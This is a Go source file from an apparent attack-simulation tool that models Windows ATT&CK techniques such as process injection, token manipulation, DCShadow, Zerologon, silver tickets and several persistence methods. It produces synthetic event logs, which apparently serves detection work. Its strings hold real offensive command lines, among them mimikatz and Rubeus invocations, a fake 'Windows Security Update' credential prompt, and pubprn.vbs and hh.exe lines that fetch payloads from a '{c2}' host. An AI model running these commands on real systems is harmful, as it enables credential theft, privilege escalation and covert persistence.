package technique

import (
	"time"

	"hemostat/sim"
	"hemostat/sim/world"
)

// windowsInternals are techniques that use parts of Windows which few programs touch:
// other processes, the directory's replication, extension points. Recordings of them are
// common, reports of campaigns less so.
var windowsInternals = []*Technique{
	{
		ID: "T1055.001", Name: "Process Injection: Dynamic-link Library Injection", Tactic: "privilege-escalation", Effect: "the attacker's library runs within another program",
		Takes: quick, Success: 0.92,
		script: &script{at: onWindows, variants: []variant{
			by("mavinject", cmd(mavinject, `mavinject.exe 4172 /INJECTRUNNING C:\Users\Public\a.dll`),
				inject(world.Notepad, "LoadLibraryW"), load(`C:\Users\Public\a.dll`)),
			by("into notepad", cmd(world.Notepad, `notepad.exe`), open(world.Notepad, "0x1fffff", injectionTrace),
				inject(world.Notepad, "LoadLibraryA"), load(`C:\Users\{user}\AppData\Local\Temp\m.dll`)),
		}},
	},
	{
		ID: "T1055.002", Name: "Process Injection: Portable Executable Injection", Tactic: "privilege-escalation", Effect: "the attacker's program runs within another one",
		Takes: quick, Success: 0.9,
		script: &script{at: onWindows, variants: []variant{
			by("Invoke-ReflectivePEInjection", block(`Invoke-ReflectivePEInjection -PEBytes $b -ProcName notepad`),
				open(world.Notepad, "0x1f3fff", injectionTrace), inject(world.Notepad, "")),
			by("own code", open(world.Explorer, "0x147a", injectionTrace), inject(world.Explorer, "")),
		}},
	},
	{
		ID: "T1055.003", Name: "Process Injection: Thread Execution Hijacking", Tactic: "privilege-escalation", Effect: "a thread of another program runs the attacker's code",
		Takes: quick, Success: 0.88,
		script: &script{at: onWindows, variants: []variant{
			by("suspend and resume", open(world.Notepad, "0x1fffff", injectionTrace), load(`C:\Users\Public\h.dll`)),
			by("least rights", open(world.Explorer, "0x0028", injectionTrace)),
		}},
	},
	{
		ID: "T1055.004", Name: "Process Injection: Asynchronous Procedure Call", Tactic: "privilege-escalation", Effect: "another program runs the attacker's code when it waits",
		Takes: quick, Success: 0.9,
		script: &script{at: onWindows, variants: []variant{
			by("early bird", cmd(world.Svchost, `C:\Windows\System32\svchost.exe`),
				open(world.Svchost, "0x1fffff", injectionTrace)),
			by("explorer", open(world.Explorer, "0x1028", injectionTrace)),
		}},
	},
	{
		ID: "T1056.002", Name: "Input Capture: GUI Input Capture", Tactic: "credential-access", Effect: "the user has typed a password into the attacker's window",
		Takes: sim.LogNormal(5*time.Minute, 0.8), Success: 0.55,
		script: &script{at: onWindows, then: stealOwner, variants: []variant{
			by("Get-Credential",
				powershell(`$cred = $host.UI.PromptForCredential("Windows Security Update", "", [Environment]::UserName, [Environment]::UserDomainName); $cred.GetNetworkCredential().Password`)),
			by("credential dialog", load(`C:\Windows\System32\credui.dll`), load(`C:\Windows\System32\wincredui.dll`)),
		}},
	},
	{
		ID: "T1134.002", Name: "Access Token Manipulation: Create Process with Token", Tactic: "privilege-escalation", Effect: "a program runs as somebody else",
		Takes: quick, Success: 0.9,
		script: &script{at: onElevated, variants: []variant{
			by("runas", cmd(runas, `runas /user:{netbios}\svc_backup "cmd.exe /k whoami"`)),
			by("stolen from a service", asSystem(world.Winlogon, world.Cmd, `C:\Windows\System32\cmd.exe`)),
		}},
	},
	{
		ID: "T1134.004", Name: "Access Token Manipulation: Parent PID Spoofing", Tactic: "privilege-escalation", Effect: "a program has a harmless parent",
		Takes: quick, Success: 0.93,
		script: &script{at: onElevated, variants: []variant{
			by("PPID-Spoof", block(`Start-ATHProcessUnderSpecificParent -ParentId $PID -TestGuid 12345678-1234-1234-1234-123456789123`), asSystem(world.Svchost, world.Notepad, `notepad.exe`)),
			by("below services", asSystem(world.Services, world.PowerShell, `powershell.exe`)),
		}},
	},
	{
		ID: "T1134.005", Name: "Access Token Manipulation: SID-History Injection", Tactic: "privilege-escalation", Effect: "an account has an administrator's rights that nobody sees",
		Takes: quick, Success: 0.85, ready: needDomainAdmin,
		script: &script{at: onDomain, variants: []variant{
			by("mimikatz", debugging(mimikatz, `mimikatz.exe "privilege::debug" "sid::patch" "sid::add /sam:{user} /new:administrator" exit`), atController("Security 4742", "SidHistory", "%{S-1-5-21-1-500}")),
			by("DCShadow", atController("Security 4738", "TargetUserName", "{user}", "SidHistory", "%{S-1-5-21-1-519}")),
		}},
	},
	{
		ID: "T1187", Name: "Forced Authentication", Tactic: "credential-access", Effect: "a server's account has logged on to the attacker",
		Takes: sim.LogNormal(3*time.Minute, 0.8), Success: 0.7,
		script: &script{at: onDomain, variants: []variant{
			by("PetitPotam", cmd(world.Dropped(`C:\Users\Public\PetitPotam.exe`, &plain), `PetitPotam.exe {host} {dc}`),
				remoteFile(`\\*\IPC$`, "lsarpc")),
			by("SpoolSample", cmd(world.Dropped(`C:\Users\Public\SpoolSample.exe`, &plain), `SpoolSample.exe {dc} {host}`),
				remoteFile(`\\*\IPC$`, "spoolss")),
		}},
	},
	{
		ID: "T1207", Name: "Rogue Domain Controller", Tactic: "defense-impairment", Effect: "changes of the directory come from a controller that is none",
		Takes: quick, Success: 0.85, ready: needDomainAdmin,
		script: &script{at: onDomain, variants: []variant{
			by("mimikatz", debugging(mimikatz, `mimikatz.exe "lsadump::dcshadow /object:{user} /attribute:description /value:x" exit`), shadowController, samPolicy),
			by("push only", shadowController),
		}},
	},
	{
		ID: "T1210", Name: "Exploitation of Remote Services", Tactic: "lateral-movement", Effect: "a service of the controller ran the attacker's code",
		Takes: sim.LogNormal(4*time.Minute, 0.8), Success: 0.4,
		script: &script{at: onDomain, variants: []variant{
			by("Zerologon", cmd(mimikatz, `mimikatz.exe "lsadump::zerologon /target:{dc} /account:DC001$ /exploit" exit`),
				atController("Security 4742", "PasswordLastSet", "3/3/2026 9:00:00 AM", "SubjectUserName", "ANONYMOUS LOGON",
					"SubjectUserSid", "S-1-5-7", "SubjectDomainName", "NT AUTHORITY")),
			by("sAMAccountName spoofing", atController("Security 4741", "TargetUserName", "SAMTHEADMIN-81$", "SamAccountName",
				"SAMTHEADMIN-81$"), atController("Security 4781", "OldTargetUserName", "SAMTHEADMIN-81$", "NewTargetUserName", "DC001")),
			by("print spooler", remoteFile(`\\*\IPC$`, "spoolss"), asSystem(world.Spoolsv, world.Rundll32, `rundll32.exe`)),
		}},
	},
	{
		ID: "T1216.001", Name: "System Script Proxy Execution: PubPrn", Tactic: "stealth", Effect: "a script of Windows ran the attacker's", Takes: quick, Success: 0.95,
		script: &script{at: onWindows, variants: []variant{
			by("from the web", cmd(world.Cscript, `cscript.exe /b C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs localhost "script:https://{c2}/p.sct"`)),
			by("wscript", cmd(world.Wscript, `wscript.exe C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:C:\Users\Public\p.sct`)),
		}},
	},
	{
		ID: "T1218.001", Name: "System Binary Proxy Execution: Compiled HTML File", Tactic: "stealth", Effect: "a help file ran the attacker's program", Takes: quick, Success: 0.95,
		script: &script{at: onWindows, variants: []variant{
			by("from the web", cmd(helpViewer, `hh.exe http://{c2}/a.chm`),
				child(world.Cmd, `cmd.exe /c C:\Users\Public\agent.exe`)),
			by("from a folder", cmd(helpViewer, `"C:\Windows\hh.exe" C:\Users\{user}\Downloads\guide.chm`),
				child(world.PowerShell, `powershell.exe -w hidden -nop -c C:\Users\Public\a.ps1`)),
		}},
	},
	{
		ID: "T1218.002", Name: "System Binary Proxy Execution: Control Panel", Tactic: "stealth", Effect: "the control panel ran the attacker's library", Takes: quick, Success: 0.95,
		script: &script{at: onWindows, variants: []variant{
			by("control", cmd(world.InSystem32("control.exe", "CONTROL.EXE", "Windows Control Panel"),
				`control.exe C:\Users\Public\item.cpl`), child(world.Rundll32, `"C:\Windows\system32\rundll32.exe" Shell32.dll,Control_RunDLL C:\Users\Public\item.cpl`)),
			by("rundll32", cmd(world.Rundll32, `rundll32.exe shell32.dll,Control_RunDLL C:\Users\Public\item.cpl`)),
		}},
	},
	{
		ID: "T1218.008", Name: "System Binary Proxy Execution: Odbcconf", Tactic: "stealth", Effect: "a tool of Windows ran the attacker's library", Takes: quick, Success: 0.95,
		script: &script{at: onWindows, variants: []variant{
			by("one action", cmd(odbcconf, `odbcconf.exe /S /A {REGSVR "C:\Users\Public\a.dll"}`),
				load(`C:\Users\Public\a.dll`)),
			by("response file", cmd(odbcconf, `odbcconf.exe -f C:\Users\Public\a.rsp`)),
		}},
	},
	{
		ID: "T1484.001", Name: "Domain or Tenant Policy Modification: Group Policy Modification", Tactic: "privilege-escalation", Effect: "the domain's policy does what the attacker wants",
		Takes: sim.LogNormal(3*time.Minute, 0.7), Success: 0.85, ready: needDomainAdmin,
		script: &script{at: onDomain, variants: []variant{
			by("task by policy", policyChanged("gPCMachineExtensionNames",
				"[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}][{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"),
				remoteFile(`\\*\SYSVOL`,
					`{domain}\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\Machine\Preferences\ScheduledTasks\ScheduledTasks.xml`)),
			by("linked elsewhere",
				policyChanged("gPLink", "[LDAP://cn={31B2F340-016D-11D2-945F-00C04FB984F9},cn=policies,cn=system;0]")),
			by("version raised", policyChanged("versionNumber", "65538")),
		}},
	},
	{
		ID: "T1505.001", Name: "Server Software Component: SQL Stored Procedures", Tactic: "persistence", Effect: "the database runs the attacker's commands", Achieves: "persist",
		Takes: quick, Success: 0.9,
		script: &script{at: onElevated, then: settle(`C:\Users\Public\agent.exe`), variants: []variant{
			by("xp_cmdshell", log("Application 15457", "Data", "xp_cmdshell, 0, 1"),
				log("Application 33205", "Data",
					"audit_schema_version:1, action_id:EX, succeeded:true, object_name:xp_cmdshell, statement:EXEC master..xp_cmdshell 'whoami'"), asSystem(world.Sqlservr, world.Cmd, `"C:\Windows\system32\cmd.exe" /c whoami`)),
			by("startup procedure", log("Application 33205", "Data",
				"audit_schema_version:1, action_id:EX, succeeded:true, object_name:sp_procoption, statement:EXEC sp_procoption 'evil', 'startup', 'on'")),
			by("CLR assembly", log("Application 15457", "Data", "clr enabled, 0, 1")),
		}},
	},
	{
		ID: "T1505.004", Name: "Server Software Component: IIS Components", Tactic: "persistence", Effect: "the web server runs the attacker's module", Achieves: "persist",
		Takes: quick, Success: 0.9,
		script: &script{at: onElevated, then: settle(`C:\Windows\System32\inetsrv\m.dll`), variants: []variant{
			by("appcmd", cmd(world.InSystem32(`inetsrv\appcmd.exe`, "appcmd.exe", "Application Server Command Line Admin Tool"),
				`C:\Windows\System32\inetsrv\appcmd.exe install module /name:DefaultDocumentModule_Atomic /image:%windir%\system32\inetsrv\m.dll`)),
			by("New-WebGlobalModule",
				powershell(`New-WebGlobalModule -Name DefaultDocumentModule_Atomic -Image %windir%\system32\inetsrv\m.dll`)),
		}},
	},
	{
		ID: "T1518", Name: "Software Discovery", Tactic: "discovery", Effect: "what is installed is known", Takes: quick, Success: 0.99,
		script: &script{at: onWindows, variants: []variant{
			by("registry", cmd(world.Reg, `reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall /s /v DisplayName`), cmd(world.Reg, `reg query "HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Internet Explorer" /v svcVersion`)),
			by("wmic", cmd(world.Wmic, `wmic product get name,version`)),
			by("Get-ItemProperty",
				block(`Get-ItemProperty HKLM:\Software\Microsoft\Windows\CurrentVersion\Uninstall\* | Select-Object DisplayName, DisplayVersion`)),
		}},
	},
	{
		ID: "T1546.001", Name: "Event Triggered Execution: Change Default File Association", Tactic: "persistence", Effect: "opening a file starts the attacker's program", Achieves: "persist",
		Takes: quick, Success: 0.95,
		script: &script{at: onElevated, then: settle(`C:\Users\Public\agent.exe`), variants: []variant{
			by("assoc", cmd(world.Cmd, `cmd.exe /c assoc .hta=txtfile`)),
			by("registry", registry(`HKLM\SOFTWARE\Classes\txtfile\shell\open\command\(Default)`,
				`C:\Users\Public\agent.exe %1`)),
		}},
	},
	{
		ID: "T1546.002", Name: "Event Triggered Execution: Screensaver", Tactic: "persistence", Effect: "the attacker's program starts when the user is away", Achieves: "persist",
		Takes: quick, Success: 0.95,
		script: &script{at: onWindows, then: settle(`C:\Users\Public\e.scr`), variants: []variant{
			by("reg add", cmd(world.Reg, `reg.exe add "HKEY_CURRENT_USER\Control Panel\Desktop" /v SCRNSAVE.EXE /t REG_SZ /d "C:\Users\Public\e.scr" /f`), cmd(world.Reg, `reg.exe add "HKEY_CURRENT_USER\Control Panel\Desktop" /v ScreenSaveActive /t REG_SZ /d 1 /f`)),
			by("direct", registry(`HKCU\Control Panel\Desktop\SCRNSAVE.EXE`, `C:\Users\Public\e.scr`)),
		}},
	},
	{
		ID: "T1546.007", Name: "Event Triggered Execution: Netsh Helper DLL", Tactic: "persistence", Effect: "netsh loads the attacker's library", Achieves: "persist",
		Takes: quick, Success: 0.95,
		script: &script{at: onElevated, then: settle(`C:\Users\Public\n.dll`), variants: []variant{
			by("add helper", cmd(world.Netsh, `netsh.exe add helper C:\Users\Public\n.dll`),
				registry(`HKLM\SOFTWARE\Microsoft\NetSh\n`, `C:\Users\Public\n.dll`), load(`C:\Users\Public\n.dll`)),
			by("registry", registry(`HKLM\SOFTWARE\Microsoft\NetSh\helper`, `C:\Users\Public\n.dll`)),
		}},
	},
	{
		ID: "T1546.010", Name: "Event Triggered Execution: AppInit DLLs", Tactic: "persistence", Effect: "every program with a window loads the attacker's library", Achieves: "persist",
		Takes: quick, Success: 0.9,
		script: &script{at: onElevated, then: settle(`C:\Tools\i.dll`), variants: []variant{
			by("reg add", cmd(world.Reg, `reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows" /v AppInit_Dlls /t REG_SZ /d C:\Tools\i.dll /f`), cmd(world.Reg, `reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows" /v LoadAppInit_DLLs /t REG_DWORD /d 1 /f`)),
			by("direct", registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows\AppInit_Dlls`, `C:\Tools\i.dll`)),
		}},
	},
	{
		ID: "T1546.011", Name: "Event Triggered Execution: Application Shimming", Tactic: "persistence", Effect: "a program is patched whenever it starts", Achieves: "persist",
		Takes: quick, Success: 0.92,
		script: &script{at: onElevated, then: settle(`C:\Windows\apppatch\Custom\s.sdb`), variants: []variant{
			by("sdbinst", cmd(world.InSystem32("sdbinst.exe", "sdbinst.exe", "Application Compatibility Database Installer"),
				`sdbinst.exe C:\Users\Public\s.sdb`), file(`C:\Windows\apppatch\Custom\Custom64\{deb7f008-681e-4a4a-8aae-cc833e8216ce}.sdb`), registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\AppCompatFlags\Custom\notepad.exe\{deb7f008-681e-4a4a-8aae-cc833e8216ce}.sdb`, "Binary Data")),
			by("registry", registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\AppCompatFlags\InstalledSDB\{deb7f008-681e-4a4a-8aae-cc833e8216ce}\DatabasePath`, `C:\Windows\apppatch\Custom\s.sdb`)),
		}},
	},
	{
		ID: "T1546.013", Name: "Event Triggered Execution: PowerShell Profile", Tactic: "persistence", Effect: "every PowerShell runs the attacker's script", Achieves: "persist",
		Takes: quick, Success: 0.95,
		script: &script{at: onWindows, then: settle(`C:\Users\Public\p.ps1`), variants: []variant{
			by("Add-Content", block(`Add-Content $profile -Value "Start-Process C:\Users\Public\agent.exe"`),
				file(`C:\Users\{user}\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1`)),
			by("all users", file(`C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1`)),
		}},
	},
	{
		ID: "T1547.005", Name: "Boot or Logon Autostart Execution: Security Support Provider", Tactic: "persistence", Effect: "the security authority loads the attacker's library", Achieves: "persist",
		Takes: quick, Success: 0.9,
		script: &script{at: onElevated, then: settle(`C:\Windows\System32\mimilib.dll`), variants: []variant{
			by("security packages",
				cmd(world.Reg, `reg add "HKLM\System\CurrentControlSet\Control\Lsa" /v "Security Packages" /d "kerberos msv1_0 mimilib" /t REG_SZ /f`), file(`C:\Windows\System32\mimilib.dll`), log("Security 4622", "SecurityPackageName", `C:\Windows\system32\mimilib.dll : KiwiSSP`)),
			by("in memory", debugging(mimikatz, `mimikatz.exe "privilege::debug" "misc::memssp" exit`),
				open(world.Lsass, "0x1038", mimikatzTrace), file(`C:\Windows\System32\mimilsa.log`)),
		}},
	},
	{
		ID: "T1547.009", Name: "Boot or Logon Autostart Execution: Shortcut Modification", Tactic: "persistence", Effect: "a shortcut starts the attacker's program", Achieves: "persist",
		Takes: quick, Success: 0.95,
		script: &script{at: onWindows, then: settle(`C:\Users\Public\agent.exe`), variants: []variant{
			by("startup folder",
				file(`C:\Users\{user}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\T1547.009.lnk`)),
			by("on the desktop", file(`C:\Users\{user}\Desktop\Chrome.lnk`)),
		}},
	},
	{
		ID: "T1547.010", Name: "Boot or Logon Autostart Execution: Port Monitors", Tactic: "persistence", Effect: "the print spooler loads the attacker's library", Achieves: "persist",
		Takes: quick, Success: 0.92,
		script: &script{at: onElevated, then: settle(`C:\Windows\System32\mon.dll`), variants: []variant{
			by("reg add", cmd(world.Reg, `reg add "hklm\system\currentcontrolset\control\print\monitors\ART" /v "Driver" /d "C:\Users\Public\mon.dll" /t REG_SZ`)),
			by("direct", registry(`HKLM\System\CurrentControlSet\Control\Print\Monitors\Updater\Driver`, `mon.dll`),
				file(`C:\Windows\System32\mon.dll`)),
		}},
	},
	{
		ID: "T1556.002", Name: "Modify Authentication Process: Password Filter DLL", Tactic: "credential-access", Effect: "new passwords are known to the attacker",
		Takes: quick, Success: 0.85,
		script: &script{at: onElevated, then: stealServices, variants: []variant{
			by("notification packages",
				cmd(world.Reg, `reg add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v "Notification Packages" /t REG_MULTI_SZ /d "scecli\0filter" /f`), file(`C:\Windows\System32\filter.dll`)),
			by("direct", registry(`HKLM\System\CurrentControlSet\Control\Lsa\Notification Packages`, `scecli filter`)),
		}},
	},
	{
		ID: "T1558.002", Name: "Steal or Forge Kerberos Tickets: Silver Ticket", Tactic: "credential-access", Effect: "tickets for a service can be forged",
		Takes: quick, Success: 0.95,
		script: &script{at: onWindows, variants: []variant{
			by("mimikatz", cmd(mimikatz, `mimikatz.exe "kerberos::golden /user:Administrator /domain:{domain} /sid:S-1-5-21-1 /target:{dc} /service:cifs /rc4:0f1e /ptt" exit`)),
			by("Rubeus", cmd(rubeus, `Rubeus.exe silver /service:cifs/{dc} /rc4:0f1e /user:Administrator /ptt`)),
		}},
	},
	{
		ID: "T1559.001", Name: "Inter-Process Communication: Component Object Model", Tactic: "execution", Effect: "a program was started through a component", Takes: quick, Success: 0.93,
		script: &script{at: onWindows, variants: []variant{
			by("xwizard", cmd(world.InSystem32("xwizard.exe", "xwizard.exe", "Extensible Wizards Host Process"),
				`xwizard.exe RunWizard {00000001-0000-0000-0000-0000FEEDACDC}`)),
			by("MMC20.Application",
				block(`[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application")).Document.ActiveView.ExecuteShellCommand("cmd.exe",$null,"/c calc.exe","7")`), under(world.Mmc, world.Cmd, `"C:\Windows\System32\cmd.exe" /c calc.exe`)),
		}},
	},
	{
		ID: "T1574.011", Name: "Hijack Execution Flow: Services Registry Permissions Weakness", Tactic: "stealth", Effect: "a service starts the attacker's program",
		Takes: quick, Success: 0.85,
		script: &script{at: onWindows, variants: []variant{
			by("reg add", cmd(world.Reg, `reg.exe add "HKLM\SYSTEM\CurrentControlSet\Services\calcservice" /f /v ImagePath /d "C:\Users\Public\agent.exe"`)),
			by("failure command", registry(`HKLM\System\CurrentControlSet\Services\Fax\FailureCommand`,
				`C:\Users\Public\agent.exe`)),
		}},
	},
	{
		ID: "T1654", Name: "Log Enumeration", Tactic: "discovery", Effect: "who logs on from where is known", Takes: quick, Success: 0.98,
		script: &script{at: onElevated, variants: []variant{
			by("wevtutil", cmd(world.Wevtutil, `wevtutil.exe qe Security /c:5 /q:*[System[(EventID=4624)]] /f:text`)),
			by("Get-WinEvent", block(`Get-WinEvent -LogName Security -FilterXPath "*[System[(EventID=4624)]]"; Get-EventLog -LogName Security -InstanceId 4624`)),
		}},
	},
}

var (
	mavinject  = world.InSystem32("mavinject.exe", "mavinject64.exe", "Microsoft Application Virtualization Injector")
	odbcconf   = world.InSystem32("odbcconf.exe", "odbcconf.exe", "ODBC Driver Configuration Program")
	helpViewer = world.InWindows("hh.exe", "HH.exe", "Microsoft® HTML Help Executable")
)

const injectionTrace = `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|UNKNOWN(000001F8A5E0B7F1)`

// shadowController registers a host as a domain controller and takes that back: names of
// services on its account (4742), an object of the sites' (5137, 5141).
var shadowController = move{"windows/security 4742 5137 5141", func(a *Attempt, f *Foothold) world.Refusal {
	dc := a.World.DomainController(f.Host)
	if dc == nil {
		return world.Refusal{}
	}
	by := a.domainAdmin()
	object := []string{"ObjectClass", "server", "ObjectDN",
		"CN=" + f.Host.Name + ",CN=Servers,CN=Default-First-Site-Name,CN=Sites,CN=Configuration," + a.text(f, "{dn}")}
	names := "\r\n\t\tGC/" + f.Host.FQDN + "/" + a.World.Domain + "\r\n\t\tE3514235-4B06-11D1-AB04-00C04FC2DCD2/0b7b/" + a.World.Domain
	a.World.LogBy(a.Now, a.Actor, dc, by, "Security 4742", "TargetUserName", f.Host.Name+"$", "ServicePrincipalNames",
		names)
	a.World.LogBy(a.Now, a.Actor, dc, by, "Security 5137", object...)
	a.World.LogBy(a.Now+time.Second, a.Actor, dc, by, "Security 4662", "AccessMask", "0x100", "Properties",
		"%%7688\r\n\t\t{9923a32a-3607-11d2-b9be-0000f87a36b2}")
	a.World.LogBy(a.Now+3*time.Second, a.Actor, dc, by, "Security 5141", object...)
	a.World.LogBy(a.Now+3*time.Second, a.Actor, dc, by, "Security 4742", "TargetUserName", f.Host.Name+"$")
	return world.Refusal{}
}}

// policyChanged writes an attribute of a group policy object.
func policyChanged(attribute, value string) move {
	return move{"windows/security 5136", func(a *Attempt, f *Foothold) world.Refusal {
		if dc := a.World.DomainController(f.Host); dc != nil {
			dn := a.text(f, "CN={31B2F340-016D-11D2-945F-00C04FB984F9},CN=Policies,CN=System,{dn}")
			a.World.ChangeDirectory(a.Now, a.Actor, dc, a.domainAdmin(), "groupPolicyContainer", dn, attribute, value)
		}
		return world.Refusal{}
	}}
}
